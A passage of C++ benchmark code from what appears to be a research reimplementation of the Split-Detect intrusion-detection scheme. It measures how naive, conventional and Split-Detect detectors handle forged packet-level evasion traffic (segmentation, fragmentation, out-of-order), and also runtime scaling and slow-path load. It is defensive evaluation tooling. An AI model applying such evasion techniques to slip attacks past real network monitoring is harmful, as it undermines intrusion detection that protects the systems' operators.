      "\npaper: ~10%%. Expected shape: the modeled ratio lands near 10%%\n"
      "once the piece length keeps benign diversion low (p=16); at small p\n"
      "chance piece hits divert flows whose double (fast+slow) processing\n"
      "erodes the advantage — exactly the trade-off E4/E5 quantify.\n");
  return 0;
}
