// E1 — Evasion-detection matrix.
//
// Paper claim: Split-Detect detects all byte-string evasions (Section on
// the detection theorem); the naive per-packet matcher is defeated by the
// Ptacek-Newsham transforms; the conventional IPS detects what its single
// reassembly policy reconstructs.
//
// Each transform delivers the same signature-bearing stream; every cell is
// the detector's verdict over N randomized instances (different payloads,
// signature positions and segment luck). Verdict counts are deterministic
// for the seeded trials, so no repeat-timing applies here — the JSON
// report carries the evaded/detected tallies per transform.
#include "bench_util.hpp"
#include "net/encap.hpp"
#include "sim/replay.hpp"
#include "util/rng.hpp"

using namespace sdt;

namespace {

struct CellResult {
  int sig_detected = 0;
  int conflict_only = 0;
  int evaded = 0;
};

const char* fmt_cell(const CellResult& c, int trials, char* buf,
                     std::size_t n) {
  if (c.evaded == 0 && c.conflict_only == 0) {
    std::snprintf(buf, n, "detected %d/%d", c.sig_detected, trials);
  } else if (c.evaded == 0) {
    std::snprintf(buf, n, "det %d + conf %d", c.sig_detected, c.conflict_only);
  } else {
    std::snprintf(buf, n, "EVADED %d/%d", c.evaded, trials);
  }
  return buf;
}

}  // namespace

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("E1_evasion_matrix", "evasion-detection matrix", opt);
  bench::banner("E1: evasion-detection matrix",
                "\"we prove that under certain assumptions this scheme can "
                "detect all byte-string evasions\" — Split-Detect column "
                "must be clean; naive per-packet must be evadable");

  const int trials = static_cast<int>(opt.sized(20, 5));

  core::SignatureSet sigs;
  sigs.add("e1-sig", std::string_view("E1_MATRIX_SIGNATURE_0123456789AB"));

  std::printf("%-22s | %-16s | %-16s | %-16s\n", "evasion", "naive", "conventional",
              "split-detect");
  std::printf("%-22s-+-%-16s-+-%-16s-+-%-16s\n", "----------------------",
              "----------------", "----------------", "----------------");

  int sd_evaded_total = 0;
  int naive_evaded_total = 0;
  constexpr net::Framing kEncapFramings[] = {
      net::Framing::v6, net::Framing::vlan, net::Framing::qinq,
      net::Framing::vxlan, net::Framing::gre};
  int encap_divergences = 0;
  for (evasion::EvasionKind kind : evasion::kAllEvasions) {
    CellResult naive_c, conv_c, sd_c;
    CellResult encap_cells[6];
    for (int trial = 0; trial < trials; ++trial) {
      Rng rng(static_cast<std::uint64_t>(trial) * 31 + 7);
      Bytes stream = evasion::generate_payload(rng, 1000 + rng.below(3000), 0.3);
      const std::size_t at =
          64 + static_cast<std::size_t>(
                   rng.below(stream.size() - sigs[0].bytes.size() - 128));
      std::copy(sigs[0].bytes.begin(), sigs[0].bytes.end(),
                stream.begin() + static_cast<std::ptrdiff_t>(at));
      evasion::EvasionParams params;
      params.sig_lo = at;
      params.sig_hi = at + sigs[0].bytes.size();
      const auto pkts =
          evasion::forge_evasion(kind, evasion::Endpoints{}, stream, params,
                                 rng, 0);

      auto judge = [&](sim::Detector& det, CellResult& cell) {
        sim::replay(det, pkts);
        bool sig = false;
        for (auto id : det.alerted_signatures()) {
          sig |= id != core::kConflictAlertId;
        }
        if (sig) {
          ++cell.sig_detected;
        } else if (det.total_alerts() > 0) {
          ++cell.conflict_only;
        } else {
          ++cell.evaded;
        }
      };

      sim::NaivePerPacketDetector naive(sigs);
      sim::ConventionalDetector conv(sigs);
      core::SplitDetectConfig cfg;
      cfg.fast.piece_len = 8;
      cfg.min_ttl = 2;  // deployment knowledge: hosts >= 2 hops behind us
      sim::SplitDetectDetector sd(sigs, cfg);
      judge(naive, naive_c);
      judge(conv, conv_c);
      const int sd_flagged_before = sd_c.sig_detected + sd_c.conflict_only;
      judge(sd, sd_c);
      const bool v4_detected =
          sd_c.sig_detected + sd_c.conflict_only > sd_flagged_before;

      // Encapsulation dimension: the same attack bytes re-framed into the
      // wider traffic universe must produce the same split-detect verdict
      // — recall is a property of the byte stream, not the framing.
      for (const net::Framing f : kEncapFramings) {
        net::EncapSpec spec;
        spec.framing = f;
        std::vector<net::Packet> wrapped;
        wrapped.reserve(pkts.size());
        for (const net::Packet& p : pkts) {
          wrapped.emplace_back(p.ts_usec, net::reframe(spec, p.frame));
        }
        sim::SplitDetectDetector esd(sigs, cfg);
        sim::replay(esd, wrapped, spec.link());
        const bool detected = esd.total_alerts() > 0;
        CellResult& ec = encap_cells[static_cast<std::size_t>(f)];
        if (detected) {
          ++ec.sig_detected;
        } else {
          ++ec.evaded;
        }
        if (detected != v4_detected) ++encap_divergences;
      }
    }
    char b1[32], b2[32], b3[32];
    std::printf("%-22s | %-16s | %-16s | %-16s\n", evasion::to_string(kind),
                fmt_cell(naive_c, trials, b1, sizeof b1),
                fmt_cell(conv_c, trials, b2, sizeof b2),
                fmt_cell(sd_c, trials, b3, sizeof b3));
    const std::string k = evasion::to_string(kind);
    rep.metric(k + ".naive.evaded", naive_c.evaded, "trials");
    rep.metric(k + ".conventional.evaded", conv_c.evaded, "trials");
    rep.metric(k + ".split_detect.evaded", sd_c.evaded, "trials");
    rep.metric(k + ".split_detect.detected", sd_c.sig_detected, "trials");
    for (const net::Framing f : kEncapFramings) {
      const CellResult& ec = encap_cells[static_cast<std::size_t>(f)];
      rep.metric(k + ".split_detect." + net::to_string(f) + ".detected",
                 ec.sig_detected, "trials");
      sd_evaded_total += ec.evaded;
    }
    sd_evaded_total += sd_c.evaded;
    naive_evaded_total += naive_c.evaded;
  }
  rep.metric("trials_per_cell", trials, "trials");
  rep.metric("split_detect.evaded_total", sd_evaded_total, "trials");
  rep.metric("naive.evaded_total", naive_evaded_total, "trials");
  rep.metric("encap.divergences", encap_divergences, "trials");

  std::printf(
      "\nencap dimension: every trial re-framed as v6/vlan/qinq/vxlan/gre;\n"
      "split-detect verdict divergences vs plain v4: %d (must be 0 — recall\n"
      "is a property of the byte stream, not the framing).\n",
      encap_divergences);
  std::printf(
      "\nexpected shape: naive evaded by segmentation/fragmentation rows;\n"
      "split-detect never evaded (conflicting-content rows surface as\n"
      "normalizer-conflict alerts, which block the flow).\n");
  return rep.write() ? 0 : 1;
}
