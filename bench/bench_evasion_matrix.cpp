// E1 — Evasion-detection matrix.
//
// Paper claim: Split-Detect detects all byte-string evasions (Section on
// the detection theorem); the naive per-packet matcher is defeated by the
// Ptacek-Newsham transforms; the conventional IPS detects what its single
// reassembly policy reconstructs.
//
// Each transform delivers the same signature-bearing stream; every cell is
// the detector's verdict over 20 randomized instances (different payloads,
// signature positions and segment luck).
#include "bench_util.hpp"
#include "sim/replay.hpp"
#include "util/rng.hpp"

using namespace sdt;

namespace {

struct CellResult {
  int sig_detected = 0;
  int conflict_only = 0;
  int evaded = 0;
};

const char* fmt_cell(const CellResult& c, char* buf, std::size_t n) {
  if (c.evaded == 0 && c.conflict_only == 0) {
    std::snprintf(buf, n, "detected %d/20", c.sig_detected);
  } else if (c.evaded == 0) {
    std::snprintf(buf, n, "det %d + conf %d", c.sig_detected, c.conflict_only);
  } else {
    std::snprintf(buf, n, "EVADED %d/20", c.evaded);
  }
  return buf;
}

}  // namespace

int main() {
  bench::banner("E1: evasion-detection matrix",
                "\"we prove that under certain assumptions this scheme can "
                "detect all byte-string evasions\" — Split-Detect column "
                "must be clean; naive per-packet must be evadable");

  core::SignatureSet sigs;
  sigs.add("e1-sig", std::string_view("E1_MATRIX_SIGNATURE_0123456789AB"));

  std::printf("%-22s | %-16s | %-16s | %-16s\n", "evasion", "naive", "conventional",
              "split-detect");
  std::printf("%-22s-+-%-16s-+-%-16s-+-%-16s\n", "----------------------",
              "----------------", "----------------", "----------------");

  for (evasion::EvasionKind kind : evasion::kAllEvasions) {
    CellResult naive_c, conv_c, sd_c;
    for (int trial = 0; trial < 20; ++trial) {
      Rng rng(static_cast<std::uint64_t>(trial) * 31 + 7);
      Bytes stream = evasion::generate_payload(rng, 1000 + rng.below(3000), 0.3);
      const std::size_t at =
          64 + static_cast<std::size_t>(
                   rng.below(stream.size() - sigs[0].bytes.size() - 128));
      std::copy(sigs[0].bytes.begin(), sigs[0].bytes.end(),
                stream.begin() + static_cast<std::ptrdiff_t>(at));
      evasion::EvasionParams params;
      params.sig_lo = at;
      params.sig_hi = at + sigs[0].bytes.size();
      const auto pkts =
          evasion::forge_evasion(kind, evasion::Endpoints{}, stream, params,
                                 rng, 0);

      auto judge = [&](sim::Detector& det, CellResult& cell) {
        sim::replay(det, pkts);
        bool sig = false;
        for (auto id : det.alerted_signatures()) {
          sig |= id != core::kConflictAlertId;
        }
        if (sig) {
          ++cell.sig_detected;
        } else if (det.total_alerts() > 0) {
          ++cell.conflict_only;
        } else {
          ++cell.evaded;
        }
      };

      sim::NaivePerPacketDetector naive(sigs);
      sim::ConventionalDetector conv(sigs);
      core::SplitDetectConfig cfg;
      cfg.fast.piece_len = 8;
      cfg.min_ttl = 2;  // deployment knowledge: hosts >= 2 hops behind us
      sim::SplitDetectDetector sd(sigs, cfg);
      judge(naive, naive_c);
      judge(conv, conv_c);
      judge(sd, sd_c);
    }
    char b1[32], b2[32], b3[32];
    std::printf("%-22s | %-16s | %-16s | %-16s\n",
                evasion::to_string(kind), fmt_cell(naive_c, b1, sizeof b1),
                fmt_cell(conv_c, b2, sizeof b2), fmt_cell(sd_c, b3, sizeof b3));
  }

  std::printf(
      "\nexpected shape: naive evaded by segmentation/fragmentation rows;\n"
      "split-detect never evaded (conflicting-content rows surface as\n"
      "normalizer-conflict alerts, which block the flow).\n");
  return 0;
}
