// Shared harness for the experiment benches: standard workloads, table
// printing, the experiment banner — and the measurement/reporting contract
// every bench binary follows:
//
//   --json <path>   write the machine-readable report (schema sdt-bench/1,
//                   documented in docs/OBSERVABILITY.md) in addition to the
//                   human tables
//   --repeats N     override a bench's repeat count
//   --quick         smaller workloads + fewer repeats (the CI smoke mode
//                   scripts/bench_snapshot.sh --quick uses)
//
// Timing is repeat-N with median ± MAD (median absolute deviation): the
// robust location/spread pair that a single warm run or a best-of-N cannot
// provide on a noisy shared host. Deterministic quantities (byte counts,
// flow counts, detection verdicts) are recorded as plain metrics.
#pragma once

#include <algorithm>
#include <cmath>
#include <cstdarg>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

#include "evasion/corpus.hpp"
#include "evasion/traffic_gen.hpp"
#include "util/json.hpp"
#include "util/stats.hpp"

namespace sdt::bench {

inline void banner(const char* exp_id, const char* claim) {
  std::printf("\n=== %s ===\n", exp_id);
  std::printf("reproduces: %s\n\n", claim);
}

inline void row(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  std::vprintf(fmt, ap);
  va_end(ap);
  std::printf("\n");
}

/// The standard benign workload used across experiments (seeded, so every
/// bench sees the identical trace for a given parameterization).
inline evasion::GeneratedTrace standard_benign(std::size_t flows,
                                               double reorder_rate = 0.0,
                                               std::uint64_t seed = 20060811) {
  evasion::TrafficConfig tc;
  tc.flows = flows;
  tc.seed = seed;
  tc.reorder_rate = reorder_rate;
  return evasion::generate_benign(tc);
}

/// Command-line contract shared by every experiment bench (see file
/// comment). Unrecognized arguments are ignored, so a bench can add its
/// own flags without fighting the parser.
struct Options {
  bool quick = false;
  std::size_t repeats_override = 0;  // 0 = use the bench's default
  std::string json_path;

  static Options parse(int argc, char** argv) {
    Options o;
    for (int i = 1; i < argc; ++i) {
      const std::string a = argv[i];
      if (a == "--quick") {
        o.quick = true;
      } else if (a == "--json" && i + 1 < argc) {
        o.json_path = argv[++i];
      } else if (a == "--repeats" && i + 1 < argc) {
        o.repeats_override = static_cast<std::size_t>(
            std::strtoull(argv[++i], nullptr, 10));
      }
    }
    return o;
  }

  /// The repeat count a timed section should use: the explicit override if
  /// given, else the bench's default (trimmed in --quick mode).
  std::size_t runs(std::size_t dflt, std::size_t quick_dflt = 2) const {
    if (repeats_override > 0) return repeats_override;
    return quick ? std::min(dflt, quick_dflt) : dflt;
  }
  /// Scale a workload size down in --quick mode.
  std::size_t sized(std::size_t full, std::size_t quick_size) const {
    return quick ? quick_size : full;
  }
};

/// Repeat-measurement summary: median and MAD over the recorded samples.
struct Repeated {
  std::vector<double> samples;
  double median = 0.0;
  double mad = 0.0;  // median(|x - median|): robust spread, same unit

  std::size_t runs() const { return samples.size(); }
  /// Relative spread — the honest "how noisy was this" figure.
  double rel_mad() const { return median != 0.0 ? mad / median : 0.0; }
};

inline double median_of(std::vector<double> v) {
  if (v.empty()) return 0.0;
  const std::size_t mid = v.size() / 2;
  std::nth_element(v.begin(), v.begin() + static_cast<std::ptrdiff_t>(mid),
                   v.end());
  const double hi = v[mid];
  if (v.size() % 2 == 1) return hi;
  const double lo =
      *std::max_element(v.begin(), v.begin() + static_cast<std::ptrdiff_t>(mid));
  return (lo + hi) / 2.0;
}

inline Repeated summarize(std::vector<double> samples) {
  Repeated r;
  r.median = median_of(samples);
  std::vector<double> dev;
  dev.reserve(samples.size());
  for (const double x : samples) dev.push_back(std::fabs(x - r.median));
  r.mad = median_of(std::move(dev));
  r.samples = std::move(samples);
  return r;
}

/// Run `fn` (which returns one numeric sample, e.g. wall ns for a fresh
/// replay) `runs` times and summarize. The first call is not discarded:
/// callers that want a warm-up run it themselves — a median is already
/// robust to one cold outlier.
template <typename F>
Repeated repeat(std::size_t runs, F&& fn) {
  std::vector<double> samples;
  samples.reserve(runs);
  for (std::size_t i = 0; i < runs; ++i) samples.push_back(fn());
  return summarize(std::move(samples));
}

/// "median ± mad (n runs)" for the human tables.
inline std::string pm(const Repeated& r, const char* fmt = "%.1f") {
  if (fmt == nullptr) fmt = "%.1f";
  char a[64], b[64];
  std::snprintf(a, sizeof a, fmt, r.median);
  std::snprintf(b, sizeof b, fmt, r.mad);
  char out[160];
  std::snprintf(out, sizeof out, "%s ±%s", a, b);
  return out;
}

/// Collects a bench's machine-readable metrics and writes the documented
/// sdt-bench/1 JSON object to Options::json_path (no-op without --json).
/// One instance per binary; metric names are dotted paths scoped by the
/// bench (e.g. "split_detect.ns_per_byte").
class JsonReport {
 public:
  JsonReport(std::string bench_id, std::string title, Options opt)
      : id_(std::move(bench_id)), title_(std::move(title)),
        opt_(std::move(opt)) {}

  /// Deterministic scalar.
  void metric(std::string name, double value, std::string unit) {
    rows_.push_back({std::move(name), std::move(unit), value, 0.0, 0});
  }
  /// Repeat-timed scalar: records median as the value plus mad/runs.
  void metric(std::string name, const Repeated& r, std::string unit) {
    rows_.push_back({std::move(name), std::move(unit), r.median, r.mad,
                     r.runs()});
  }

  /// Write the report if --json was given. Returns false on I/O failure
  /// (after printing to stderr) so main can propagate a nonzero exit.
  bool write() const {
    if (opt_.json_path.empty()) return true;
    JsonWriter j;
    j.begin_object();
    j.field("schema", "sdt-bench/1");
    j.field("bench", id_);
    j.field("title", title_);
    j.field("quick", opt_.quick);
    j.key("metrics").begin_array();
    for (const Row& r : rows_) {
      j.begin_object();
      j.field("name", r.name);
      j.field("unit", r.unit);
      j.field("value", r.value);
      if (r.runs > 0) {
        j.field("mad", r.mad);
        j.field("runs", static_cast<std::uint64_t>(r.runs));
      }
      j.end_object();
    }
    j.end_array();
    j.end_object();
    const std::string& body = j.str();
    std::FILE* f = std::fopen(opt_.json_path.c_str(), "wb");
    if (!f) {
      std::fprintf(stderr, "bench: cannot open %s\n", opt_.json_path.c_str());
      return false;
    }
    const std::size_t n = std::fwrite(body.data(), 1, body.size(), f);
    std::fputc('\n', f);
    std::fclose(f);
    if (n != body.size()) {
      std::fprintf(stderr, "bench: short write to %s\n",
                   opt_.json_path.c_str());
      return false;
    }
    return true;
  }

 private:
  struct Row {
    std::string name;
    std::string unit;
    double value;
    double mad;
    std::size_t runs;
  };

  std::string id_;
  std::string title_;
  Options opt_;
  std::vector<Row> rows_;
};

}  // namespace sdt::bench
