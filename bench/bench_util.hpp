// Shared helpers for the experiment benches: standard workloads, table
// printing, and the experiment banner that ties a binary back to the
// DESIGN.md per-experiment index.
#pragma once

#include <cstdarg>
#include <cstdio>
#include <string>
#include <vector>

#include "evasion/corpus.hpp"
#include "evasion/traffic_gen.hpp"
#include "util/stats.hpp"

namespace sdt::bench {

inline void banner(const char* exp_id, const char* claim) {
  std::printf("\n=== %s ===\n", exp_id);
  std::printf("reproduces: %s\n\n", claim);
}

inline void row(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  std::vprintf(fmt, ap);
  va_end(ap);
  std::printf("\n");
}

/// The standard benign workload used across experiments (seeded, so every
/// bench sees the identical trace for a given parameterization).
inline evasion::GeneratedTrace standard_benign(std::size_t flows,
                                               double reorder_rate = 0.0,
                                               std::uint64_t seed = 20060811) {
  evasion::TrafficConfig tc;
  tc.flows = flows;
  tc.seed = seed;
  tc.reorder_rate = reorder_rate;
  return evasion::generate_benign(tc);
}

}  // namespace sdt::bench
