// A4 — Runtime lane scaling: the concurrent runtime vs. the sequential
// simulator on the same seeded tri-modal trace.
//
// sim::lane_scaling *models* the parallel deployment by replaying shards
// sequentially and reporting the bottleneck lane; sdt::runtime *is* that
// deployment — a dispatcher thread flow-hashing packets into SPSC rings
// drained by one engine-owning worker thread per lane. Both use the same
// address-pair hash, so per-lane workloads are identical; this bench checks
// that the measured concurrent runtime reproduces the simulator's scaling
// curve and verdicts, and that no packet is ever silently lost.
//
// Aggregate Gb/s is computed from the busiest lane's engine-busy time (the
// deployment's critical path — each lane on its own core); wall Gb/s is the
// host's actual end-to-end clock, which matches the aggregate only when the
// host has >= lanes+1 free cores. Every timed row is a median ± MAD over
// repeated runs (fresh runtime each pass); verdict/conservation invariants
// are re-checked in every pass.
#include <algorithm>
#include <thread>

#include "bench_util.hpp"
#include "sim/sharding.hpp"

using namespace sdt;

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("A4_runtime_scaling",
                        "runtime lane scaling (real threads, SPSC rings)", opt);
  bench::banner("A4: runtime lane scaling (real threads, SPSC rings)",
                "the 20 Gbps deployment shape as a running system: "
                "flow-hash dispatcher -> bounded rings -> engine-per-thread "
                "lanes, verdict-preserving and lossless under backpressure");

  const core::SignatureSet sigs = evasion::default_corpus(16);
  evasion::TrafficConfig tc;
  // Enough flows that the address-pair hash balances 16 lanes: scaling at
  // high widths is limited by the busiest lane's byte share, so a thin
  // trace (~50 flows/lane) would measure flow skew, not the runtime. At
  // 12800 flows the busiest of 16 lanes sits within ~10% of the mean.
  tc.flows = opt.sized(12800, 400);
  tc.seed = 4;
  evasion::AttackMix mix;
  mix.attack_fraction = 0.02;
  mix.kind = evasion::EvasionKind::tiny_segments;
  const auto trace = evasion::generate_mixed(tc, sigs, mix);
  const std::size_t runs = opt.runs(5, 2);
  std::printf("workload: %zu packets, %s, %zu flows (%zu attacks); host has "
              "%u hardware threads; %zu timed runs per width (median ± MAD)\n\n",
              trace.packets.size(),
              human_bytes(static_cast<double>(trace.total_bytes)).c_str(),
              trace.flows, trace.attack_flows,
              std::thread::hardware_concurrency(), runs);

  core::SplitDetectConfig ecfg;
  ecfg.fast.piece_len = 8;

  // Sequential-simulator reference curve.
  std::printf("sequential simulator (sim::lane_scaling):\n");
  std::printf("%6s %18s %10s %8s\n", "lanes", "aggregate", "speedup",
              "alerts");
  double sim_base = 0.0;
  for (const std::size_t lanes : {1u, 2u, 4u, 8u, 16u}) {
    auto make = [&]() -> std::unique_ptr<sim::Detector> {
      return std::make_unique<sim::SplitDetectDetector>(sigs, ecfg);
    };
    std::uint64_t alerts = 0;
    const bench::Repeated gbps = bench::repeat(runs, [&] {
      const sim::LaneScalingReport lr =
          sim::lane_scaling(make, trace.packets, lanes);
      alerts = lr.total_alerts;
      return lr.aggregate_gbps();
    });
    if (lanes == 1) sim_base = gbps.median;
    std::printf("%6zu %15s Gb %9.2fx %8llu\n", lanes,
                bench::pm(gbps, "%.2f").c_str(),
                sim_base > 0 ? gbps.median / sim_base : 0.0,
                static_cast<unsigned long long>(alerts));
    char key[32];
    std::snprintf(key, sizeof key, "sim.lanes%zu", lanes);
    rep.metric(std::string(key) + ".aggregate_gbps", gbps, "Gbps");
  }

  // The real thing: dispatcher + worker threads, blocking backpressure.
  // The parse-once pipeline (PacketView indexed at the dispatcher, shipped
  // through the rings, never re-parsed) shows up in ns/packet; the divided
  // flow budget (tables sized total/lanes) shows up in MiB/lane ≈ 1/lanes.
  std::printf("\nconcurrent runtime (sdt::runtime, blocking policy):\n");
  std::printf("%6s %18s %10s %16s %10s %8s %8s\n", "lanes", "aggregate",
              "speedup", "ns/pkt", "MiB/lane", "drops", "alerts");
  double rt_base = 0.0;
  std::uint64_t alerts_at_1 = 0;
  double mib_per_lane_at_1 = 0.0;
  for (const std::size_t lanes : {1u, 2u, 4u, 8u, 16u}) {
    runtime::RuntimeConfig rc;
    rc.lanes = lanes;
    rc.ring_capacity = 1024;
    rc.engine = ecfg;
    std::uint64_t total_alerts = 0, dropped = 0;
    double mib_per_lane = 0.0;
    bool conserved = true;
    bool zero_alloc = true;
    std::vector<double> nspp_samples;
    const bench::Repeated gbps = bench::repeat(runs, [&] {
      const sim::RuntimeScalingResult res =
          sim::runtime_lane_scaling(sigs, rc, trace.packets);
      total_alerts = res.total_alerts;
      dropped = res.stats.dropped;
      conserved = conserved && res.stats.conserved();
      // The zero-allocation claim, audited per pass: every frame travelled
      // through a recycled arena slab (no heap fallback) and every slab
      // returned to its pool by quiescence.
      zero_alloc = zero_alloc && res.stats.arena_heap_fallbacks() == 0 &&
                   res.stats.arena_outstanding() == 0;
      nspp_samples.push_back(res.wall_ns_per_packet());
      std::size_t lane_bytes = 0;
      for (const std::size_t b : res.lane_engine_bytes) {
        lane_bytes = std::max(lane_bytes, b);
      }
      mib_per_lane = static_cast<double>(lane_bytes) / (1024.0 * 1024.0);
      return res.aggregate_gbps();
    });
    const bench::Repeated nspp = bench::summarize(std::move(nspp_samples));
    if (lanes == 1) {
      rt_base = gbps.median;
      alerts_at_1 = total_alerts;
      mib_per_lane_at_1 = mib_per_lane;
    }
    if (!conserved) {
      std::printf("CONSERVATION VIOLATED at %zu lanes\n", lanes);
      return 1;
    }
    if (!zero_alloc) {
      std::printf("ARENA LEAKED at %zu lanes (heap fallback or outstanding "
                  "slot at quiescence)\n",
                  lanes);
      return 1;
    }
    std::printf("%6zu %15s Gb %9.2fx %16s %10.1f %8llu %8llu\n", lanes,
                bench::pm(gbps, "%.2f").c_str(),
                rt_base > 0 ? gbps.median / rt_base : 0.0,
                bench::pm(nspp, "%.0f").c_str(), mib_per_lane,
                static_cast<unsigned long long>(dropped),
                static_cast<unsigned long long>(total_alerts));
    char key[32];
    std::snprintf(key, sizeof key, "runtime.lanes%zu", lanes);
    rep.metric(std::string(key) + ".aggregate_gbps", gbps, "Gbps");
    rep.metric(std::string(key) + ".wall_ns_per_pkt", nspp, "ns");
    rep.metric(std::string(key) + ".speedup",
               rt_base > 0 ? gbps.median / rt_base : 0.0, "x");
    rep.metric(std::string(key) + ".mib_per_lane", mib_per_lane, "MiB");
    if (total_alerts != alerts_at_1) {
      std::printf("VERDICT DRIFT: %llu alerts at %zu lanes vs %llu at 1\n",
                  static_cast<unsigned long long>(total_alerts), lanes,
                  static_cast<unsigned long long>(alerts_at_1));
      return 1;
    }
    // Right-sized tables: per-lane memory must shrink with lane count
    // (≈ 1/lanes until the floor), never grow.
    if (lanes > 1 && mib_per_lane > mib_per_lane_at_1) {
      std::printf("LANE MEMORY NOT DIVIDED: %.1f MiB/lane at %zu lanes vs "
                  "%.1f at 1\n",
                  mib_per_lane, lanes, mib_per_lane_at_1);
      return 1;
    }
  }

  // Sharded ingest at the widest configuration: the same 16-lane deployment
  // fed through N dispatcher threads instead of the caller's thread. The
  // lane-side aggregate is unchanged by construction (identical per-lane
  // work — peek_lane routes every flow to the same lane); what changes is
  // the ingest side: parse + arena copy + ring handoff spread over N
  // dispatcher cores, reported as the busiest shard's dispatch time per
  // packet (the ingest critical path, one-core inline dispatch = baseline).
  std::printf("\nsharded ingest (16 lanes, dispatchers x N, blocking):\n");
  std::printf("%12s %18s %20s %14s %8s\n", "dispatchers", "aggregate",
              "disp ns/pkt (max)", "ingest hw", "alerts");
  for (const std::size_t dispatchers : {1u, 2u, 4u}) {
    runtime::RuntimeConfig rc;
    rc.lanes = 16;
    rc.dispatchers = dispatchers;
    rc.ring_capacity = 1024;
    rc.engine = ecfg;
    std::uint64_t total_alerts = 0;
    std::uint64_t ingest_hw = 0;
    bool ok = true;
    std::vector<double> disp_nspp_samples;
    const bench::Repeated gbps = bench::repeat(runs, [&] {
      const sim::RuntimeScalingResult res =
          sim::runtime_lane_scaling(sigs, rc, trace.packets);
      total_alerts = res.total_alerts;
      ok = ok && res.stats.conserved() &&
           res.stats.arena_heap_fallbacks() == 0 &&
           res.stats.arena_outstanding() == 0;
      // Ingest critical path: the busiest shard's dispatch time over the
      // packets it handled (each shard on its own core).
      double worst_nspp = 0.0;
      for (const auto& d : res.stats.dispatchers) {
        ok = ok && d.ingested == d.consumed;
        if (d.consumed != 0) {
          worst_nspp = std::max(worst_nspp, static_cast<double>(d.busy_ns) /
                                                static_cast<double>(d.consumed));
        }
        ingest_hw = std::max(ingest_hw,
                             static_cast<std::uint64_t>(d.ring_high_water));
      }
      disp_nspp_samples.push_back(worst_nspp);
      return res.aggregate_gbps();
    });
    const bench::Repeated disp_nspp =
        bench::summarize(std::move(disp_nspp_samples));
    if (!ok) {
      std::printf("SHARDED INVARIANT VIOLATED at %zu dispatchers\n",
                  dispatchers);
      return 1;
    }
    if (total_alerts != alerts_at_1) {
      std::printf("VERDICT DRIFT: %llu alerts at %zu dispatchers vs %llu "
                  "inline\n",
                  static_cast<unsigned long long>(total_alerts), dispatchers,
                  static_cast<unsigned long long>(alerts_at_1));
      return 1;
    }
    std::printf("%12zu %15s Gb %20s %14llu %8llu\n", dispatchers,
                bench::pm(gbps, "%.2f").c_str(),
                bench::pm(disp_nspp, "%.0f").c_str(),
                static_cast<unsigned long long>(ingest_hw),
                static_cast<unsigned long long>(total_alerts));
    char key[40];
    std::snprintf(key, sizeof key, "runtime.lanes16.disp%zu", dispatchers);
    rep.metric(std::string(key) + ".aggregate_gbps", gbps, "Gbps");
    rep.metric(std::string(key) + ".disp_ns_per_pkt", disp_nspp, "ns");
  }

  // Graceful degradation: a deliberately undersized ring with the drop
  // policy. Every shed packet is counted — conservation still holds.
  std::printf("\noverload shedding (ring_capacity=8, drop policy):\n");
  {
    runtime::RuntimeConfig rc;
    rc.lanes = 2;
    rc.ring_capacity = 8;
    rc.overload = runtime::OverloadPolicy::drop;
    rc.engine = ecfg;
    const sim::RuntimeScalingResult res =
        sim::runtime_lane_scaling(sigs, rc, trace.packets);
    std::printf("fed %llu = processed %llu + dropped %llu  (conserved: %s, "
                "drop rate %.1f%%)\n",
                static_cast<unsigned long long>(res.stats.fed),
                static_cast<unsigned long long>(res.stats.processed),
                static_cast<unsigned long long>(res.stats.dropped),
                res.stats.conserved() ? "yes" : "NO",
                100.0 * static_cast<double>(res.stats.dropped) /
                    static_cast<double>(res.stats.fed));
    if (!res.stats.conserved()) return 1;
    rep.metric("shedding.conserved", res.stats.conserved() ? 1.0 : 0.0,
               "bool");
    rep.metric("shedding.drop_rate_pct",
               100.0 * static_cast<double>(res.stats.dropped) /
                   static_cast<double>(res.stats.fed),
               "%");
  }

  std::printf(
      "\nexpected shape: the runtime's aggregate curve tracks the\n"
      "simulator's (same hash, same per-lane work; both report the\n"
      "critical-path lane). Alerts are identical at every width and every\n"
      "dispatcher count — lanes share no flow state and peek_lane routes\n"
      "each flow to the same lane the full parse would, so threading\n"
      "changes no verdict. Drops are zero under the blocking policy by\n"
      "construction; under the drop policy they are counted, never silent.\n"
      "The arena audit (heap fallbacks == 0, outstanding == 0) holds in\n"
      "every pass: the steady-state packet path allocates nothing.\n"
      "Wall-clock converges to the aggregate only with >= lanes +\n"
      "dispatchers + 1 free cores. ns/pkt is the end-to-end feed..drain\n"
      "cost of the parse-once pipeline (headers validated and indexed once\n"
      "at the dispatching edge, copied once into a recycled lane-local\n"
      "slab, batched through the rings); MiB/lane is each lane's engine\n"
      "footprint with the flow budget divided across lanes (≈ 1/lanes\n"
      "until the floor).\n");
  return rep.write() ? 0 : 1;
}
