// E8 — Slow-path load under mixed benign + attack traffic.
//
// Paper dependency: the architecture holds only if the slow path stays
// small when attacked — diverted flows are the attacker's and a bounded
// benign residue, not an amplification channel.
#include "bench_util.hpp"
#include "core/engine.hpp"

#include <set>

using namespace sdt;

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("E8_slowpath_load", "slow-path load vs attack fraction",
                        opt);
  bench::banner("E8: slow-path load vs attack fraction",
                "the slow path must scale with the attack fraction, not "
                "with total traffic — the core sizing argument");

  const core::SignatureSet sigs = evasion::default_corpus(32);

  std::printf("%9s | %10s %10s %10s | %9s %11s\n", "attack%", "pkts->slow",
              "bytes->slow", "flows div.", "alerts", "atk caught");
  std::printf("----------+----------------------------------+----------------"
              "-------\n");

  const std::vector<double> fracs =
      opt.quick ? std::vector<double>{0.0, 0.05}
                : std::vector<double>{0.0, 0.001, 0.01, 0.05, 0.10};
  for (const double frac : fracs) {
    evasion::TrafficConfig tc;
    tc.flows = opt.sized(500, 100);
    tc.seed = 8;
    evasion::GeneratedTrace trace;
    if (frac > 0.0) {
      evasion::AttackMix mix;
      mix.attack_fraction = frac;
      mix.kind = evasion::EvasionKind::combo_tiny_ooo;
      trace = evasion::generate_mixed(tc, sigs, mix);
    } else {
      trace = evasion::generate_benign(tc);
    }

    core::SplitDetectConfig cfg;
    cfg.fast.piece_len = 8;
    core::SplitDetectEngine engine(sigs, cfg);
